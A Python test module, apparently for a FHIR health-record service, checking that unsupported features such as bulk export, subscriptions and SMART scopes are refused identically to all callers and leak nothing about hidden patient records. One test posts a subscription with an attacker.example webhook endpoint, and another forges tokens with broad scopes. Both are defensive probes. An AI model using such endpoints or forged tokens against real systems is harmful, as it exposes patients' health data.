"""The leak checklist, rows about features that the service does not have: refused, and to everybody in the same words.

Rows 12 to 14, 16, 26 and 30. Whoever adds such a feature rewrites its row here.
"""

from collections.abc import Sequence
from typing import Any

import pytest
from leak_sweep import batch_of, check_shown, sweep, ways
from leak_world import (
    ANNA,
    BO,
    CALLER_OF,
    CALLERS,
    HIDDEN,
    HOSPITAL,
    MARKS,
    MUNICIPALITY,
    LeakWorld,
    block,
    claims_of,
    condition,
    parameters,
    sor,
    told,
)
from token_forge import signed

from app.fhir.dispatch import INTERACTIONS

JSON = dict[str, Any]
NURSE, CITIZEN, GP = CALLER_OF["nurse"], CALLER_OF["citizen"], CALLER_OF["gp"]
Request = tuple[str, str, Any]


async def refused_alike(leaks: LeakWorld, requests: Sequence[Request], *, statuses: set[int]) -> None:
    """Check that each request is refused, in one way to all who enter and in one to all who do not."""
    for method, path, body in requests:
        answers = {who.key: await leaks.ask(who, method, path, json=body) for who in CALLERS}
        entering = {told(answers[who.key]) for who in CALLERS if who.enters}
        assert len(entering) == 1, (method, path, entering)
        ((status, headers, words),) = entering
        assert status in statuses, (method, path, status)
        assert not {"content-location", "location", "etag", "last-modified"} & dict(headers).keys()
        assert not any(mark.encode() in words for mark in MARKS.values())
        outside = [answers[who.key] for who in CALLERS if not who.enters]
        assert {answer.status for answer in outside} <= {401, status}, (method, path)


def _on_all(leaks: LeakWorld, *tails: str) -> list[str]:
    patients = [leaks.patients[ANNA], leaks.patients[BO], leaks.never[ANNA], leaks.alien]
    return [f"/Patient/{id_}{tail}" for id_ in patients for tail in tails]


NOT_THERE = {404, 405}


# Row 12: $everything, and what is kept between requests


async def test_row_12_there_is_no_everything(leaks: LeakWorld) -> None:
    paths = ["/$everything", "/Patient/$everything", *_on_all(leaks, "/$everything", "/$everything?_since=2000", "/*")]
    paths += [f"/Encounter/{leaks.alien}/$everything", f"/Condition/{leaks.ids['label']}/$everything"]
    await refused_alike(leaks, [("GET", path, None) for path in paths], statuses=NOT_THERE)
    posted = [("POST", path, parameters(identifier=ANNA)) for path in paths if "$" in path and "?" not in path]
    await refused_alike(leaks, posted, statuses=NOT_THERE)


async def test_row_12_what_is_kept_for_one_caller_or_citizen_is_shown_to_no_other(leaks: LeakWorld) -> None:
    """Documents and decisions are kept; everybody asks in turn, twice, so that each meets what the others left."""
    for _ in range(2):
        for citizen in (ANNA, BO):
            for who in (one for one in CALLERS if one.enters):
                answer = await leaks.ask(who, "GET", f"/Patient/{leaks.patients[citizen]}/$summary")
                seen = {one.key for one in HIDDEN if one.citizen == citizen and who.sees(one)}
                assert answer.status == (200 if who.has_basis(citizen) else 404), (who.key, citizen)
                words = answer.body.decode()
                assert {one.key for one in HIDDEN if MARKS[one.key] in words} == seen, who.key


async def test_row_12_a_tag_of_one_reader_is_none_of_another(leaks: LeakWorld) -> None:
    path = f"/Patient/{leaks.patients[ANNA]}/$summary"
    readers = [who for who in CALLERS if who.has_basis(ANNA)]
    tags = {who.key: dict((await leaks.ask(who, "GET", path)).headers)["etag"] for who in readers}
    assert tags["nurse"] != tags["gp"] != tags["citizen"] != tags["nurse"]
    for reader in readers:
        for owner, tag in tags.items():
            answer = await leaks.ask(reader, "GET", path, headers={"If-None-Match": tag})
            same = tag == tags[reader.key]
            assert answer.status == (304 if same else 200), (reader.key, owner)


# Row 13: operations that return bundles


OPERATIONS = (
    "$lastn", "$match", "$graph", "$graphql", "$mdm-submit", "$mdm-query-links", "$docref", "$find", "$meta",
    "$meta-add", "$meta-delete", "$convert", "$diff", "$stats", "$evaluate-measure", "$care-gaps", "$apply",
    "$document", "$patient-everything", "$get-resource-counts", "$reindex", "$expunge", "$partition-list", "$Summary",
    "$summary2", "$purge", "$merge", "$undo-merge", "$hfql-execute",
)  # fmt: skip


async def test_row_13_there_is_no_other_operation(leaks: LeakWorld) -> None:
    known = {part for row in INTERACTIONS for part in row.shape if part.startswith("$")}
    for name in (name for name in OPERATIONS if name not in known):
        paths = [f"/{name}", f"/Patient/{name}", f"/Condition/{name}", f"/Patient/{leaks.patients[ANNA]}/{name}"]
        paths += [f"/Condition/{leaks.ids['label']}/{name}", f"/Condition/{leaks.ids['label']}/_history/1/{name}"]
        asked: list[Request] = [("GET", path, None) for path in paths]
        asked += [("POST", path, parameters(identifier=ANNA)) for path in paths[:4]]
        answers = {}
        for method, path, body in asked:
            for who in (NURSE, GP, CITIZEN, CALLER_OF["blocked"], CALLER_OF["data-protection"]):
                answers[method, path, who.key] = await leaks.ask(who, method, path, json=body)
        assert {answer.status for answer in answers.values()} <= NOT_THERE, name
        assert len({told(answer) for answer in answers.values()}) == 1, name
    for path in ("/$graphql?query={ConditionList{id}}", f"/Condition/{leaks.ids['open']}/$graphql?query={{id}}"):
        await refused_alike(leaks, [("GET", path, None)], statuses=NOT_THERE)


async def test_row_13_an_operation_within_a_batch_is_none(leaks: LeakWorld) -> None:
    """Neither the ones that there are nor the ones that there are not."""
    patient = leaks.patients[ANNA]
    urls = [f"Patient/{patient}/$summary", f"Patient/{patient}/$everything", "Patient/$export", "$notices", "metadata"]
    for who in (NURSE, GP, CITIZEN, CALLER_OF["blocked"]):
        answer = await leaks.ask(who, "POST", "", json=batch_of(*urls))
        statuses = {part["response"]["status"][:3] for part in answer.json["entry"]}
        assert statuses <= {"404", "405", "422", "501", "400"}, answer.body
        assert not any(mark.encode() in answer.body for mark in MARKS.values())


# Row 14: bulk export


async def test_row_14_there_is_no_export_no_job_and_no_file(leaks: LeakWorld) -> None:
    paths = ["/$export", "/Patient/$export", "/Group/x/$export", "/$export?_type=Condition", "/Patient/$davinci-data"]
    paths += [f"/Patient/{leaks.patients[ANNA]}/$export", "/$export-poll-status?_jobId=1", "/$import", "/$bulk-publish"]
    paths += ["/bulkstatus/1", "/jobs/1", "/Group", "/Group/1", "/$export-status/1", "/Binary/1"]
    asynchronous = {"Prefer": "respond-async"}
    for path in paths:
        for method in ("GET", "POST", "DELETE"):
            if path == "/Binary/1" and method != "GET":
                continue
            await refused_alike(leaks, [(method, path, parameters() if method == "POST" else None)], statuses=NOT_THERE)
        for who in (NURSE, CITIZEN, CALLER_OF["system"]):
            answer = await leaks.ask(who, "GET", path, headers=asynchronous)
            assert answer.status in NOT_THERE
            assert "content-location" not in dict(answer.headers)
    # What is answered later is answered now: nobody fetches it under another name.
    query = f"/Condition?patient={leaks.patients[ANNA]}"
    answer = await leaks.ask(NURSE, "GET", query, headers=asynchronous)
    assert (answer.status, "content-location" in dict(answer.headers)) == (200, False)


# Row 16: subscriptions, and what is told of what happens


async def test_row_16_there_is_no_subscription(leaks: LeakWorld) -> None:
    subscription = {
        "resourceType": "Subscription",
        "status": "requested",
        "reason": "x",
        "criteria": f"Condition?patient={leaks.patients[ANNA]}",
        "channel": {"type": "rest-hook", "endpoint": "https://attacker.example/hook", "payload": "application/json"},
    }
    asked: list[Request] = [("POST", "/Subscription", subscription), ("PUT", "/Subscription/1", subscription)]
    paths = ("/Subscription", "/Subscription/1", "/Subscription/$status", "/Subscription/1/$events")
    asked += [("GET", path, None) for path in paths]
    asked += [("GET", f"/{name}", None) for name in ("SubscriptionTopic", "SubscriptionStatus", "$subscription-hook")]
    asked += [("POST", "/Subscription/1/$get-ws-binding-token", parameters()), ("DELETE", "/Subscription/1", None)]
    await refused_alike(leaks, asked, statuses=NOT_THERE)
    for kind in ("batch", "transaction"):
        entry = {"resource": subscription, "request": {"method": "POST", "url": "Subscription"}}
        bundle = {"resourceType": "Bundle", "type": kind, "entry": [entry]}
        answer = await leaks.ask(CALLER_OF["system"], "POST", "", json=bundle)
        assert b'"20' not in answer.body, answer.body


async def test_row_16_what_is_told_is_decided_again_when_it_is_read(own_leaks: LeakWorld) -> None:
    """The municipality was told of Anna's stay; once it nurses her no more, it reads nothing of it."""
    leaks = own_leaks
    municipality = leaks.token(MUNICIPALITY)
    notices = await leaks.send(municipality, "GET", "/$notices")
    assert len(notices.json["entry"]) == 2
    # Ids alone: no words, no numbers, no codes of what happened.
    words = notices.body.decode()
    assert ANNA[1] not in words
    assert not any(mark in words for mark in MARKS.values())
    names = {part["name"] for entry in notices.json["entry"] for part in entry["resource"]["parameter"]}
    assert names == {"topic", "at", "patient", "focus"}
    # What a notice points to is decided for whoever asks: the social carer of the same municipality reads nothing.
    focus = next(
        part["valueReference"]["reference"]
        for part in notices.json["entry"][0]["resource"]["parameter"]
        if part["name"] == "focus"
    )
    assert (await leaks.ask(NURSE, "GET", focus)).status == 200
    for who in ("home-carer", "other-municipality", "blocked", "municipality"):
        assert (await leaks.ask(CALLER_OF[who], "GET", focus)).status == 404, who
    plans = await leaks.ask(NURSE, "GET", f"/CarePlan?patient={leaks.patients[ANNA]}")
    (plan,) = (entry["resource"] for entry in plans.json["entry"])
    ended = {**plan, "status": "completed", "period": {**plan["period"], "end": "2025-01-01"}}
    answer = await leaks.send(municipality, "PUT", f"/CarePlan/{plan['id']}", json=ended)
    assert answer.status == 200, answer.body
    assert told(await leaks.send(municipality, "GET", "/$notices")) == told(
        await leaks.send(leaks.token("municipality-system-b"), "GET", "/$notices")
    ), "as to one that was never told anything"


async def test_row_16_nothing_that_is_hidden_tells_anybody_that_it_happened(own_leaks: LeakWorld) -> None:
    """Writing, relabelling and deleting records of Anna's moves no notice of anybody's: there are no counters."""
    leaks = own_leaks
    listeners = [leaks.token(key) for key in (MUNICIPALITY, "municipality-system-b", "gp-system", HOSPITAL)]

    async def heard() -> list[object]:
        return [told(await leaks.send(token, "GET", "/$notices")) for token in listeners]

    before = await heard()
    hospital = leaks.token(HOSPITAL)
    made = await leaks.send(hospital, "POST", "/Condition", json=condition("silent"))
    path = f"/Condition/{made.json['id']}"
    relabelled = {**condition("silent", code="DF200"), "id": made.json["id"]}
    assert (await leaks.send(hospital, "PUT", path, json=relabelled)).status == 200
    assert await heard() == before
    assert (await leaks.send(hospital, "DELETE", path)).status == 204
    assert (await leaks.ask(CITIZEN, "POST", "/Consent", json=block(ANNA, actors=[sor("gp-4")]))).status == 201
    assert await heard() == before


# Row 26: scopes of SMART


SCOPES: tuple[JSON, ...] = (
    {"scope": "patient/*.read user/*.read system/*.read"},
    {"scope": "system/*.cruds"},
    {"scope": "patient/*.cruds launch/patient openid fhirUser"},
    {"scope": ""},
    {"scope": ["system/*.read"]},
    {"patient": "anything", "scope": "patient/Condition.rs"},
    {"fhirUser": "Practitioner/anything", "launch": "x"},
    {"fhirContext": [{"reference": "Patient/anything"}]},
    {"authorization_details": [{"type": "smart", "actions": ["*"]}]},
)


@pytest.mark.parametrize("claims", SCOPES, ids="-".join)
async def test_row_26_scopes_and_launch_contexts_open_nothing(leaks: LeakWorld, claims: JSON) -> None:
    """Function, purpose, law and the citizen decide; a scope that is sent beside them is not read."""
    ids = [leaks.ids[one.key] for one in HIDDEN if one.citizen == ANNA and one.type == "Condition"]
    asked = ways(leaks.patients[ANNA], ANNA, ids)
    for key in ("gp", "blocked", "other-citizen", "system"):
        own = {**claims_of(leaks.tokens[key]), **claims}
        for name in ("patient", "fhirUser"):
            if name in own:
                own[name] = own[name].replace("anything", leaks.patients[ANNA])
        token = signed(own, leaks.world.issuer)
        assert await sweep(leaks, token, asked) == await sweep(leaks, leaks.tokens[key], asked), key
        who = CALLER_OF[key]
        seen = [leaks.ids[one.key] for one in HIDDEN if one.type == "Condition" and who.sees(one)]
        seen = [id_ for id_ in seen if id_ in ids]
        await check_shown(leaks, token, asked, seen, basis=who.has_basis(ANNA))


async def test_row_26_nothing_of_smart_is_announced(leaks: LeakWorld) -> None:
    base = "http://127.0.0.1:8000"
    paths = ["/.well-known/smart-configuration", "/.well-known/openid-configuration"]
    await refused_alike(leaks, [("GET", path, None) for path in paths], statuses={404})
    for path in [f"{base}{path}" for path in (*paths, "/.well-known/oauth-authorization-server", "/auth", "/token")]:
        answers = [await leaks.ask(who, "GET", path) for who in CALLERS]
        assert {answer.status for answer in answers} == {404}
        assert len({told(answer) for answer in answers}) == 1
    statement = (await leaks.send(None, "GET", "/metadata")).json
    assert "oauth" not in str(statement["rest"][0]["security"]).lower()
    assert "smart" not in str(statement["rest"][0]["security"]).lower()


# Row 30: what is the same for everybody tells nothing of anybody


async def test_row_30_what_everybody_reads_is_moved_by_nothing_that_is_stored(own_leaks: LeakWorld) -> None:
    leaks = own_leaks
    paths = ["/metadata", "http://127.0.0.1:8000/health/live", "http://127.0.0.1:8000/health/ready"]

    async def read() -> list[object]:
        return [told(await leaks.ask(who, "GET", path)) for path in paths for who in CALLERS]

    before = await read()
    assert len(set(before)) == len(paths), "the same for all callers"
    for code in ("DF200", "DC509", "DB209"):
        resource = condition(f"counted-{code}", code=code)
        assert (await leaks.send(leaks.token(HOSPITAL), "POST", "/Condition", json=resource)).status == 201
    assert await read() == before


async def test_row_30_there_is_no_terminology_service_that_could_count(leaks: LeakWorld) -> None:
    operations = ("ValueSet/$expand", "CodeSystem/$lookup", "CodeSystem/$subsumes", "ConceptMap/$translate")
    operations += ("ValueSet/$validate-code", "$versions", "$closure")
    paths = [f"/{name}" for name in operations] + ["/ValueSet", "/CodeSystem", "/ConceptMap", "/StructureDefinition"]
    asked: list[Request] = [("GET", path, None) for path in paths]
    asked += [("POST", path, parameters(url="http://hl7.org/fhir/ValueSet/x")) for path in paths if "$" in path]
    await refused_alike(leaks, asked, statuses=NOT_THERE)


async def test_row_30_no_header_counts_what_is_left(leaks: LeakWorld) -> None:
    """No rate limit, no queue, no server timing: the same headers for what is shown, withheld and absent."""
    hidden = [f"/Condition/{leaks.ids[key]}" for key in ("open", "label", "genome")]
    for path in (*hidden, f"/Condition/{leaks.never[ANNA]}", f"/Condition?patient={leaks.patients[ANNA]}"):
        answer = await leaks.ask(GP, "GET", path)
        names = dict(answer.headers).keys()
        assert not [name for name in names if "limit" in name or "timing" in name or "runtime" in name], names
        assert names <= {
            "cache-control", "vary", "x-content-type-options", "strict-transport-security", "x-request-id",
            "content-length", "content-type", "etag", "last-modified",
        }  # fmt: skip
